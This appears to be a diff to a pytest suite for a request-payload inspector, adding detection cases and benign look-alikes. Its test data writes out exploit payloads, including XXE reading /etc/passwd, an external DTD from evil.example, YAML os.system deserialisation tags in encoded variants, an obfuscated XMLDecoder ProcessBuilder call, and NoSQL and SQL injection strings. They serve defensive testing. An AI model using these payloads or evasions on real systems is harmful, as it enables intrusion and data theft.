@@ -4,6 +4,7 @@ and the pipeline's use of it end to end, with the model off and with the shipped
 from __future__ import annotations
 
 import base64
+import dataclasses
 import json
 from collections.abc import Iterator
 from pathlib import Path
@@ -174,7 +175,7 @@ XXE = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">
 UNPARSED = [
     (record("/upload", method="POST", headers=[["Content-Type", f"multipart/form-data; boundary={BOUNDARY}"]],
             body=multipart([("note", "hello", None), ("file", XXE, "a.xml")])), "block-xml-external-entities"),
-    (record("/soap", method="POST", headers=[["Content-Type", "text/plain"]], body=XXE), "block-xml-external-entities"),
+    (record("/note", method="POST", headers=[["Content-Type", "text/plain"]], body="see the attached request: " + XXE), "block-xml-external-entities"),
     (record("/beacon", method="POST", headers=[["Content-Type", "text/plain;charset=UTF-8"]],
             body=json.dumps({"note": "see our notes on contributing, reporting issues and asking questions in the forum", "path": "../../../../etc/passwd"})),
      "block-path-traversal"),
@@ -446,10 +447,11 @@ WHERE_EXPLOITS_LIVE = [
     ("XXE in a SOAP body", record("/ws", method="POST", headers=[["Content-Type", "application/soap+xml; charset=utf-8"]],
                                   body=XXE.replace("<r>", "<soap:Envelope>")), "xml-external-entities", "xml"),
     ("an XMLDecoder document", record("/wls-wsat/CoordinatorPortType", method="POST", headers=[["Content-Type", "text/xml"]],
-                                      body=XML_DECODER), "template-injection", "xml"),
+                                      body=XML_DECODER), "code-injection", "xml"),
     ("a YAML deserialisation tag", record("/api/config", method="POST", headers=[["Content-Type", "application/x-yaml"]],
                                           body="!!python/object/apply:os.system ['id']"), "code-injection", "yaml"),
-    ("NoSQL operators in JSON", record("/login", method="POST", headers=JSON_TYPE, body='{"username": "admin", "password": {"$ne": null}}'),
+    ("a query operator for a password", record("/login", method="POST", headers=JSON_TYPE,
+                                                body='{"username": "admin", "password": {"$ne": null}}'),
      "nosql-injection", 'json:$.password["$ne"] (key)'),
     ("server-side JavaScript in JSON", record("/api/find", method="POST", headers=JSON_TYPE, body='{"$where": "sleep(5000) || true"}'),
      "nosql-injection", 'json:$["$where"] (key)'),
@@ -464,13 +466,43 @@ WHERE_EXPLOITS_LIVE = [
      "code-injection", "form:class.module.classLoader.resources.context.parent.pipeline.first (name)"),  # a name is shown cut
     ("OGNL in a Content-Type", record("/upload.action", method="POST", headers=[["Content-Type", STRUTS]], body="a=1"),
      "template-injection", "header:content-type"),
+    ("XXE whatever the type says", record("/api/orders", method="POST", headers=[["Content-Type", "text/plain"]], body=XXE),
+     "xml-external-entities", "xml"),
+    ("XXE under an upper-case type", record("/ws", method="POST", headers=[["Content-Type", "Application/XML"]], body=XXE),
+     "xml-external-entities", "xml"),
+    ("XXE in UTF-16", {**record("/ws", method="POST", headers=[["Content-Type", "application/xml"]]),
+                       "body_bytes": XXE.encode("utf-16")}, "xml-external-entities", "xml"),
+    ("XXE after a long comment", record("/ws", method="POST", headers=[["Content-Type", "application/xml"]],
+                                        body='<?xml version="1.0"?><!--' + "x" * 6000 + "-->" + XXE[21:]), "xml-external-entities", "xml"),
+    ("an external DTD", record("/ws", method="POST", headers=[["Content-Type", "application/xml"]],
+                               body='<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://evil.example/x.dtd"><r>&e;</r>'),
+     "xml-external-entities", "xml"),
+    ("XMLDecoder behind character references", record("/wls-wsat/x", method="POST", headers=[["Content-Type", "text/xml"]],
+                                                      body=XML_DECODER.replace("ProcessBuilder", "&#80;rocessBuilder")
+                                                      .replace('method="start"', 'method="&#115;tart"')), "code-injection", "xml"),
+    ("a YAML tag written out", record("/api/config", method="POST", headers=[["Content-Type", "application/yaml"]],
+                                      body="!<tag:yaml.org,2002:python/object/apply:os.system> ['id']"), "code-injection", "yaml"),
+    ("a YAML tag percent-escaped", record("/api/config", method="POST", headers=[["Content-Type", "application/yaml"]],
+                                          body="!!python%2Fobject/apply:os.system ['id']"), "code-injection", "yaml"),
+    ("a YAML tag directive", record("/api/config", method="POST", headers=[["Content-Type", "application/yaml"]],
+                                    body="%TAG !p! tag:yaml.org,2002:python/\n---\n!p!object/apply:os.system ['id']"), "code-injection", "yaml"),
+    ("Spring4Shell's multipart names", record("/greeting", method="POST",
+                                              headers=[["Content-Type", f"multipart/form-data; boundary={BOUNDARY}"]],
+                                              body=multipart([("class.module.classLoader.resources.context.parent.pipeline.first.suffix",
+                                                               ".jsp", None)])),
+     "code-injection", "multipart:class.module.classLoader.resources.context.parent.pipeline.first (name)"),
 ]
 
 
 @pytest.mark.parametrize("name,rec,kind,location", WHERE_EXPLOITS_LIVE, ids=[c[0] for c in WHERE_EXPLOITS_LIVE])
 def test_the_detectors_read_where_well_known_exploits_put_their_payload(inspector: PayloadInspector, name: str, rec: dict[str, Any],
                                                                         kind: str, location: str) -> None:
-    hits = inspector.inspect(from_record(rec))
+    rec = dict(rec)
+    raw = rec.pop("body_bytes", None)
+    f = from_record(rec)
+    if raw is not None:
+        f = dataclasses.replace(f, body_prefix=raw, content_length=len(raw))
+    hits = inspector.inspect(f)
     assert (hits[0].kind, hits[0].location) == (kind, location), hits
 
 
@@ -488,6 +520,17 @@ DOCUMENTS_AND_NAMES = [
     ("MongoDB extended JSON", "application/json", '{"_id": {"$oid": "5f1d7f0e2c"}, "at": {"$date": "2024-01-01T00:00:00Z"}}'),
     ("keys named like objects", "application/json", '{"constructor": "Ferrari", "prototype": "SF-24", "class": "F1"}'),
     ("form names with dots", "application/x-www-form-urlencoded", "class=economy&classroom=3&user.name=ana&address.city=Lyon"),
+    ("a Jenkins job", "application/xml", "<flow-definition><definition><script>node { def p = Runtime.getRuntime() }</script>"
+     "</definition></flow-definition>"),
+    ("a Spring context", "application/xml", '<beans><bean id="ds"><property name="url" value="jdbc:postgresql://db:5432/app"/></bean></beans>'),
+    ("a Helm values file", "application/yaml", 'image: "{{ .Values.image.repository }}"\nsecret: {{ lookup "v1" "Secret" "ns" "x" }}\n'),
+    ("DocBook with XInclude declared", "application/xml", '<book xmlns:xi="http://www.w3.org/2001/XInclude"><title>A</title></book>'),
+    ("an XHTML page with internal entities", "application/xhtml+xml", '<!DOCTYPE html [<!ENTITY nbsp "&#160;">]><html><p>a&nbsp;b</p></html>'),
+    ("an Illustrator SVG", "image/svg+xml", '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" '
+     '[<!ENTITY ns_svg "http://www.w3.org/2000/svg">]><svg xmlns="&ns_svg;"/>'),
+    ("a feed quoting PHP", "application/rss+xml", "<rss><item><description>read php://stdin in a CLI script</description></item></rss>"),
+    ("a CouchDB query", "application/json", '{"selector": {"year": {"$gt": 2010}, "$or": [{"a": 1}, {"b": {"$exists": true}}]}}'),
+    ("a Parse query", "application/json", '{"where": {"score": {"$gte": 1000}, "name": {"$regex": "^a"}}, "_method": "GET"}'),
 ]
 
 
@@ -498,3 +541,15 @@ def test_documents_keys_and_names_of_everyday_requests_hold_no_evidence(inspecto
     assert inspector.inspect(f) == ()
     # the same Content-Types, read as a header, are no evidence either
     assert inspector.inspect(from_record(record("/x", method="POST", headers=[["Content-Type", ctype + "; charset=UTF-8"]], body="a"))) == ()
+
+
+
+def test_a_documents_reading_is_never_remembered_for_a_value_of_the_same_text() -> None:
+    """Documents are read by their own signatures only: a short XML body must not teach the value detectors' memory
+    that its text is harmless (the same text in a JSON value is SQL injection)."""
+    cfg = config()
+    fresh = PayloadInspector(cfg, signatures_for(cfg))
+    sql = "1' OR '1'='1' --"
+    assert fresh.inspect(from_record(record("/x", method="POST", headers=[["Content-Type", "text/xml"]], body=sql))) == ()
+    hits = fresh.inspect(from_record(record("/x", method="POST", headers=JSON_TYPE, body=json.dumps({"q": sql}))))
+    assert hits and hits[0].kind == "sqli" and hits[0].location == "json:$.q"
